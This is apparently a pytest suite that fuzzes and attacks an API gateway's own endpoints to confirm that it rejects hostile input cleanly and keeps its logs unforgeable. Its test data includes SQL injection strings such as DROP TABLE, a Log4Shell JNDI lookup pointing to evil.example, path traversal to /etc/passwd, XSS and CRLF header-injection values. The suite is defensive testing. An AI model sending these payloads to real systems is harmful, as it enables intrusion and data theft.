"""What attackers send: never an error of ours, always a problem, and nothing forged in the log."""

import json
import logging
import resource
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor

import httpx
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from chassis.log import JsonFormatter
from gateway.routes import OPERATIONS
from tests.gateway.conftest import Ask
from tests.gateway.fakes import Answers
from tests.gateway.signing import Signing
from tests.gateway.wire import Told, sent

JSON = {"Content-Type": "application/json"}
MEBIBYTE = 1024 * 1024
INJECTIONS = [
    "' OR '1'='1",
    "1; DROP TABLE customers; --",
    "' UNION SELECT identity_sealed FROM customers --",
    "\\'; SELECT pg_sleep(10); --",
    "%' AND 1=(SELECT count(*) FROM pg_user) --",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "../../../../etc/passwd",
    "<script>alert(1)</script>",
    "\u202e\u2066admin\u2069",
    "＇ OR １＝１",
    "a" * 4000,
]
FORGED = "2026-11-23 INFO customer: s-boss approved everything"


def assert_told(answer: httpx.Response | Told) -> None:
    status = answer.status_code if isinstance(answer, httpx.Response) else answer.status
    assert status < 500, answer
    if status >= 400:
        assert answer.headers["content-type"] == "application/problem+json"


def exchange(url: str, signing: Signing, target: bytes, *headers: bytes) -> Told:
    """One GET as raw bytes, by somebody who is signed in."""
    token = f"Authorization: Bearer {signing.staff('adviser')}".encode()
    lines = [b"GET " + target + b" HTTP/1.1", b"Host: a", b"Connection: close", token, *headers]
    return sent(url, b"\r\n".join(lines) + b"\r\n\r\n")


@pytest.mark.parametrize(
    "path",
    [
        b"/v1/customers/%00",
        b"/v1/customers/c-1%00.json",
        b"/v1/customers/%c0%af%c0%ae",
        b"/v1/customers/%ed%a0%80",
        b"/v1/customers/%ff%fe",
        b"/v1/customers/%f8%88%80%80%80",
        b"/v1/customers/..%2f..%2fimports",
        b"/v1/customers/%2e%2e/imports",
        b"/v1/../../etc/passwd",
        b"/v1//customers",
        b"/v1/customers/c-1%0d%0aSet-Cookie:%20a=b",
        b"/v1/customers/" + b"%41" * 2000,
        b"/v1/customers;x=1",
        b"/v1/customers?q=%00",
        b"/v1/customers?q=%ed%a0%80",
        b"/v1/customers?limit=" + b"9" * 5000,
        b"/v1/customers?limit=1e400",
        b"/v1/customers?limit=0x10",
        "/v1/customers?limit=１".encode().replace("１".encode(), b"%EF%BC%91"),
        b"/v1/customers?limit=1&limit=2",
        b"/v1/customers?" + b"&".join(b"a%d=1" % number for number in range(900)),
        b"/v1/customers?cursor=%%%",
        b"/v1/customers?" + b"=" * 3000,
        b"/v1/customers?q[]=1&q[$ne]=2",
        b"http://evil.example/v1/me",
        b"*",
    ],
    ids=lambda path: repr(path[:48]),
)
def test_no_address_breaks_the_gateway(path: bytes, base_url: str, signing: Signing) -> None:
    answer = exchange(base_url, signing, path)

    assert_told(answer)
    assert "set-cookie" not in answer.headers


@pytest.mark.parametrize(
    "header",
    [
        b"X-Request-Id: a\rInjected: b",
        b"Accept-Language: " + b"zh;q=" * 500,
        b"Accept-Language: \xff\xfe\x00"[:-1],
        b"traceparent: 00-" + b"f" * 5000,
        b"If-None-Match: " + b'"a",' * 1000,
        b'If-None-Match: "' + b"a" * 500,
        b"If-Match: \xe2\x80\xae",
        b"Accept: application/xml",
        b"Accept-Encoding: " + b"gzip," * 500,
        b"Range: bytes=0-18446744073709551616",
        b"X-HTTP-Method-Override: DELETE",
        b"X-Original-URL: /v1/imports",
        b"Expect: 200-maybe",
        b"Upgrade: websocket",
        b"Connection: Authorization",
        b"Cookie: " + b"a=b;" * 2000,
        b"Content-Length: 0",
        b"Origin: null",
        b"Host2: a",
        b": nameless",
        b"X-\xff: a",
    ],
    ids=lambda header: repr(header[:40]),
)
def test_no_header_breaks_the_gateway(header: bytes, base_url: str, signing: Signing) -> None:
    assert_told(exchange(base_url, signing, b"/v1/customers/c-1", header))


@settings(max_examples=25, deadline=None, suppress_health_check=list(HealthCheck))
@given(target=st.binary(max_size=200), header=st.binary(max_size=200), body=st.binary(max_size=200))
def test_no_bytes_break_the_gateway(
    target: bytes, header: bytes, body: bytes, hasty: str, signing: Signing
) -> None:
    answer = exchange(hasty, signing, b"/" + target, header, b"", body)

    assert_told(answer)


@pytest.mark.parametrize(
    "content",
    [
        b'{"reason": "a", "reason": "b"}',
        b'{"reason": "a", "\\u0072eason": "b"}',
        b'{"reason": {"a": 1, "a": 2}}',
        b'{"reason": ' + b"[" * 500 + b"]" * 500 + b"}",
        b'{"reason": ' + b'{"a":' * 900 + b"1" + b"}" * 900 + b"}",
        b'{"reason": ' + b"9" * 5000 + b"}",
        b'{"reason": 1e400}',
        b'{"reason": -0}',
        b'{"reason": Infinity}',
        b'{"reason": "\\u0000"}',
        b'{"reason": "\x00"}',
        b'{"reason": "\\ud83d"}',
        b'{"reason": "\\ude00\\ud83d"}',
        b'{"reason": "\xed\xa0\x80"}',
        b'{"reason": "\xc0\x80"}',
        b'{"reason": "\xf4\x90\x80\x80"}',
        b'{"reason": "a",}',
        b'{"reason": /* */ "a"}',
        b"{'reason': 'a'}",
        b'{"reason": "a"}{"reason": "b"}',
        b'{"__proto__": {"admin": true}, "reason": "a"}',
        b'{"": "a"}',
        b'{"' + b"k" * 100_000 + b'": 1}',
        b'{"reason": {"' + b'a": 1, "b' * 20_000 + b'": 1}}',
    ],
    ids=lambda content: repr(content[:40]),
)
def test_no_json_breaks_the_gateway_or_passes_as_another(
    content: bytes, ask: Ask, answers: Answers
) -> None:
    answer = ask("POST", "/leads/l-1/drops", content=content, headers=JSON)

    assert answer.status_code in (400, 422), answer.text
    assert_told(answer)
    assert answers.calls == []
    assert len(answer.content) < 200_000


@pytest.mark.parametrize("text", INJECTIONS, ids=lambda text: repr(text[:20]))
def test_injections_are_refused_or_passed_on_as_they_are(
    text: str, ask: Ask, answers: Answers
) -> None:
    searched = ask("GET", "/customers", params={"q": text})
    filtered = ask("GET", "/customers", params={"adviser_id": text, "sort": text})
    noted = ask("POST", "/leads/l-1/drops", json={"reason": text[:500]})

    assert (searched.status_code, filtered.status_code) in {(200, 422), (422, 422)}
    assert noted.status_code in (201, 422)
    for call in answers.calls:
        assert getattr(call.request, "q", text) == text
        assert getattr(call.request, "reason", text[:500]) == text[:500]


def test_every_filter_of_every_list_withstands_them(ask: Ask) -> None:
    for operation in OPERATIONS:
        if not operation.reads or operation.path_parameters or operation.name == "hear_events":
            continue
        for name in operation.query().fields:
            answer = ask("GET", operation.path, "management", params={name: INJECTIONS[2]})
            assert_told(answer)


@pytest.mark.parametrize("announced", [True, False], ids=["announced", "chunked"])
def test_many_bodies_of_ten_mebibytes_cost_little_memory(
    announced: bool, http: httpx.Client, signing: Signing
) -> None:
    headers = {**JSON, "Authorization": f"Bearer {signing.staff('adviser')}"}
    piece = b"x" * 65536

    def pieces() -> Iterator[bytes]:
        for _ in range(10 * MEBIBYTE // len(piece)):
            yield piece

    def send(_: int) -> int:
        length = {"Content-Length": str(10 * MEBIBYTE)} if announced else {}
        try:
            answer = http.post("/v1/leads", content=pieces(), headers={**headers, **length})
        except httpx.TransportError:
            return 413  # they hung up while we were still sending
        assert_told(answer)
        return answer.status_code

    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    with ThreadPoolExecutor(10) as pool:
        statuses = set(pool.map(send, range(20)))
    grown = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024

    assert statuses == {413}
    assert grown < 60  # mebibytes, of 200 that were sent


def test_log_lines_cannot_be_forged(
    base_url: str, signing: Signing, ask: Ask, caplog: pytest.LogCaptureFixture
) -> None:
    hidden = FORGED.replace(" ", "%20").encode()
    with caplog.at_level(logging.DEBUG):
        exchange(base_url, signing, b"/v1/customers/%0a" + hidden + b"?q=%0d%0a" + hidden)
        exchange(base_url, signing, b"/v1/me", b"X-Request-Id: " + FORGED.encode())
        exchange(base_url, signing, b"/v1/me", b"User-Agent: \t" + FORGED.encode())
        ask("POST", "/leads/l-1/drops", json={"reason": f"x\n{FORGED}", f"\n{FORGED}": 1})
        ask("GET", "/me", headers={"traceparent": FORGED})

    formatter = JsonFormatter("gateway")
    lines = [formatter.format(record) for record in caplog.records]
    assert lines
    for line in lines:
        assert "\n" not in line
        assert FORGED not in line
        assert isinstance(json.loads(line), dict)
